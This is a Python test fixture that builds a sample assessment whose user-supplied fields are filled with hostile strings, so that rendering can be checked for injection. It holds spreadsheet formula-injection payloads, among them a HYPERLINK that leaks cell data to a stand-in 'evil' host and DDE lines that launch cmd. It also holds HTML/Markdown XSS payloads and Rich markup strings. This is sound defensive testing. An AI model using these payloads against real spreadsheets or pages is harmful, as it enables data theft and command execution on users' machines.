"""Hostile strings and an assessment made of them, for testing every place user text is rendered."""

from __future__ import annotations

from bot.knowledge import KnowledgeBase
from bot.scoring.inputs import ScoringInput
from tests.support.sample_assessment import sample_scoring_input

# What a spreadsheet would run as a formula (OWASP's list of leading characters).
FORMULAS = (
    '=HYPERLINK("http://evil/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# What a Markdown or HTML viewer would render live.
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click me](http://evil.example/)",
    "![pixel](http://evil.example/p.png)",
    "<http://evil.example/auto>",
    "**bold** _it_ `code` ~~gone~~",
    "# Heading",
    "&lt;b&gt;entity&lt;/b&gt;",
)
# What Rich would read as markup.
RICH = ("Markup [/bold] 2026", "[annexB:2.2:1]", "[red]red[/red]", "[/x]")


def hostile_scoring_input(kb: KnowledgeBase) -> ScoringInput:
    """The sample assessment with every user-supplied field replaced by a hostile string: the name, the
    community, the cycle, the stakeholders, who confirmed, who set a consensus and why."""
    base = sample_scoring_input(kb, stakeholders=len(FORMULAS) + len(MARKUP))
    people = dict(zip(base.stakeholders, [*FORMULAS, *MARKUP], strict=True))
    reasons = [*FORMULAS, *MARKUP]
    return base.model_copy(update={
        "assessment": FORMULAS[0],
        "community": MARKUP[0],
        "cycle": MARKUP[2],
        "stakeholders": [people[name] for name in base.stakeholders],
        "confirmed": [c.model_copy(update={"stakeholder": people[c.stakeholder],
                                           "confirmed_by": people.get(c.confirmed_by, MARKUP[1])})
                      for c in base.confirmed],
        "consensus": [c.model_copy(update={"set_by": MARKUP[index % len(MARKUP)],
                                           "reason": reasons[index % len(reasons)]})
                      for index, c in enumerate(base.consensus)],
    })
